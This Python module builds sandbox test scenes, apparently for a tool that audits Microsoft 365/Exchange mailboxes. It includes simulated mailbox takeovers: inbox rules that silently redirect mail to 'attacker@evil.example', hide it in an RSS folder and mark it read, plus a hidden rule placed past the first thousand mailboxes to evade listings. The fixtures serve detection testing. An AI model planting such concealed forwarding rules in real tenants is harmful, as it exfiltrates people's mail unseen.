"""The scenes that come with the sandbox, each a tenant in one JSON file.

`python -m sandbox.scenes.build` writes them to `sandbox/scenes` again. A scene holds no dates:
where one matters, `{"@sandbox.daysAgo": 3}` stands for it until the scene is played.
"""

import json
from collections.abc import Callable, Mapping
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from sandbox.http_types import Row, words
from sandbox.scenes.neglected import harmless, neglected
from sandbox.scenes.people import Cast, Seat
from sandbox.scenes.row_templates import (
    OUTBOUND_POLICY,
    REMOTE_DOMAIN,
    ROOMS_PRO,
    outbound_policy,
    person,
    remote_domain,
)

FOLDER = Path(__file__).parent
DAYS_AGO = "@sandbox.daysAgo"
WIDTH = 140


def freshened(scene: Mapping[str, Any], now: datetime) -> dict[str, Any]:
    """The scene with real dates: `{"@sandbox.daysAgo": n}` becomes the moment n days before now."""

    def made(value: Any) -> Any:
        if isinstance(value, Mapping):
            if value.keys() == {DAYS_AGO}:
                return f"{now - timedelta(days=value[DAYS_AGO]):%Y-%m-%dT%H:%M:%SZ}"
            return {name: made(part) for name, part in value.items()}
        return [made(part) for part in value] if isinstance(value, list) else value

    fresh: dict[str, Any] = made(scene)
    return fresh


# Scenes -----------------------------------------------------------------------------------------


def staff(cast: Cast) -> Seat:
    """A small, well-kept company: a mailbox of every kind, all as it should be; the director's."""
    director = cast.seat("director", "Director")
    for alias, name in (("anna", "Anna"), ("leo", "Leo"), ("mia", "Mia"), ("tom", "Tom")):
        cast.seat(alias, name)
    cast.seat("former", "Former Employee", enabled=False)
    cast.seat("info", "Info", "SharedMailbox")
    cast.seat("office", "Office", "SharedMailbox", account={"onPremisesSyncEnabled": True})
    unaudited = {"AuditEnabled": False, "DefaultAuditSet": []}
    cast.seat("room-vienna", "Room Vienna", "RoomMailbox", mailbox=unaudited)
    cast.seat(
        "room-lyon", "Room Lyon", "RoomMailbox", enabled=True, product=ROOMS_PRO, mailbox=unaudited
    )
    cast.seat("van", "Van", "EquipmentMailbox", mailbox=unaudited)
    cast.seat("appointments", "Appointments", "SchedulingMailbox")
    harmless(cast, director)
    return director


def healthy() -> Row:
    """Nothing is wrong here, so nothing is to be said."""
    cast = Cast()
    staff(cast)
    return {"graph": cast.graph(), "exchange": cast.exchange()}


def attack() -> Row:
    """A well-kept company whose director's mailbox is taken over before the third tick."""
    cast = Cast()
    director = staff(cast)
    feeds = cast.folder(director, "RSS-Feeds")
    info = next(row for row in cast.mailboxes if row["Alias"] == "info")
    lenient = cast.exchange(
        HostedOutboundSpamFilterPolicy=[outbound_policy("On")],
        RemoteDomain=[remote_domain(forwards=True)],
    )
    decided = {
        "guard": "tenant-baseline",
        "who": "Head of IT",
        "why": "mail of the acquired company is forwarded until it has moved",
        "until": {DAYS_AGO: -90},
    }
    exemptions = [decided | {"subject": one} for one in (OUTBOUND_POLICY, REMOTE_DOMAIN)]
    scene = {"exemptions": exemptions, "graph": cast.graph(), "exchange": lenient}
    before: Row = json.loads(json.dumps(scene))
    rule = cast.rule(
        director,
        ".",
        {
            "redirectTo": [person("attacker@evil.example")],
            "moveToFolder": feeds,
            "markAsRead": True,
            "stopProcessingRules": True,
        },
    )
    twin = cast.exchange_rules[director.address][-1]
    account = f"/graph/users/{info['ExternalDirectoryObjectId']}/accountEnabled"
    disabled = f"/exchange/Get-Mailbox/{info['Guid']}/AccountDisabled"
    edits = [
        {"op": "add", "path": f"/graph/messageRules/{director.id}/-", "value": rule},
        {"op": "add", "path": f"/exchange/Get-InboxRule/{director.address}/-", "value": twin},
        {"op": "set", "path": account, "value": True},
        {"op": "set", "path": disabled, "value": False},
    ]
    return before | {"ticks": [{}, {}, {"edit": edits}]}


FIRST = 1050
FORWARDS = 499
WATCHED = 1037
BYPASSED = 1042


def first_install() -> Row:
    """More than a page of mailboxes, 500 of which forward mail outside since who knows when.

    Rows hold only what is needed. The hidden rule and the bypassed account stand beyond the first
    thousand, where a listing that stops there would not look.
    """
    cast = Cast()
    for number in range(5):
        cast.contact(f"branch-{number}", f"Branch {number}", f"branch-{number}@agency.example")
    cast.bypassed.add(f"user-{BYPASSED}")
    for number in range(1, FIRST + 1):
        one = cast.seat(f"user-{number}", f"User {number}")
        if number == WATCHED:
            stolen = {"redirectTo": [person("attacker@evil.example")]}
            cast.rule(one, ".", stolen, hidden=True)
        if number <= FORWARDS * 2 and number % 2:
            old_forward(cast, one, number // 2)
    graph, exchange = cast.graph(), cast.exchange()
    graph["users"] = [lean(user, USER) for user in graph["users"]]
    graph["messageRules"] = {owner: rules for owner, rules in cast.rules.items() if rules}
    exchange["Get-Mailbox"] = [lean(row, MAILBOX) for row in cast.mailboxes]
    exchange["Get-InboxRule"] = {
        address: [lean(row, tuple(row)) for row in rules]
        for address, rules in cast.exchange_rules.items()
    }
    return {"graph": graph, "exchange": exchange}


USER = words("id userPrincipalName accountEnabled")
MAILBOX = words(
    "Guid ExternalDirectoryObjectId PrimarySmtpAddress Name RecipientTypeDetails"
    " ForwardingAddress ForwardingSmtpAddress AuditEnabled AuditLogAgeLimit DefaultAuditSet"
)


def lean(row: Row, names: tuple[str, ...]) -> Row:
    """A row with a few of its properties, and of those only what says something."""
    return {name: row[name] for name in names if row[name] not in (None, False)}


def old_forward(cast: Cast, seat: Seat, number: int) -> None:
    """One of five ways to send one's mail elsewhere."""
    target = f"{seat.alias}@home.example"
    match number % 5:
        case 0:
            seat.mailbox["ForwardingSmtpAddress"] = f"smtp:{target}"
        case 1:
            seat.mailbox["ForwardingAddress"] = f"Branch {number % 4}"
        case 2:
            cast.rule(seat, "Redirect", {"redirectTo": [person(target)]})
        case 3:
            cast.rule(seat, "Forward", {"forwardTo": [person(target)]})
        case _:
            cast.rule(seat, "Attach", {"forwardAsAttachmentTo": [person(target)]})


def missing_permissions() -> Row:
    """Something is wrong in three places, and the app lacks permissions to see and to change."""
    cast = Cast()
    staff(cast)
    cast.seat("sales", "Sales", "SharedMailbox", enabled=True)
    cast.seat("amelia", "Amelia", mailbox={"ForwardingSmtpAddress": "smtp:amelia@home.example"})
    cast.seat("ben", "Ben", mailbox={"AuditEnabled": False})
    unseen = cast.seat("felix", "Felix")
    cast.rule(unseen, "Copy", {"forwardTo": [person("felix@mail.example")]})
    return {
        "grants": {
            "graph": list(
                words(
                    "User.Read.All User.RevokeSessions.All AuditLog.Read.All Domain.Read.All"
                    " Mail.ReadBasic.All Group.Read.All"
                )
            ),
            "exchange": list(
                words(
                    "Get-Mailbox Get-Recipient Get-InboxRule Get-AcceptedDomain Get-RemoteDomain"
                    " Get-HostedOutboundSpamFilterPolicy Get-HostedOutboundSpamFilterRule"
                    " Get-OrganizationConfig Set-OrganizationConfig Get-AdminAuditLogConfig"
                    " Set-AdminAuditLogConfig Get-MailboxAuditBypassAssociation"
                    " Set-MailboxAuditBypassAssociation"
                )
            ),
        },
        "graph": cast.graph(),
        "exchange": cast.exchange(),
    }


SCENES: Mapping[str, Callable[[], Row]] = {
    "healthy": healthy,
    "neglected": neglected,
    "attack": attack,
    "first-install": first_install,
    "missing-permissions": missing_permissions,
}


# Writing ----------------------------------------------------------------------------------------


def printed(value: Any, indent: str = "", lead: int = 0) -> str:
    """JSON in which whatever fits in a line stays in one. `lead` is what stands before it there."""
    short = json.dumps(value, ensure_ascii=False)
    if len(indent) + lead + len(short) < WIDTH or not value or not isinstance(value, dict | list):
        return short
    deeper = f"{indent} "
    if isinstance(value, list):
        parts = [printed(part, deeper) for part in value]
        left, right = "[]"
    else:
        names = [json.dumps(name, ensure_ascii=False) for name in value]
        parts = [
            f"{name}: {printed(part, deeper, len(name) + 2)}"
            for name, part in zip(names, value.values(), strict=True)
        ]
        left, right = "{}"
    lines = ",\n".join(f"{deeper}{part}" for part in parts)
    return f"{left}\n{lines}\n{indent}{right}"


def text_of(name: str) -> str:
    """What the file of a scene holds."""
    return printed(SCENES[name]()) + "\n"


def main() -> None:
    for name in SCENES:
        (FOLDER / f"{name}.json").write_text(text_of(name), encoding="utf-8")


if __name__ == "__main__":
    main()
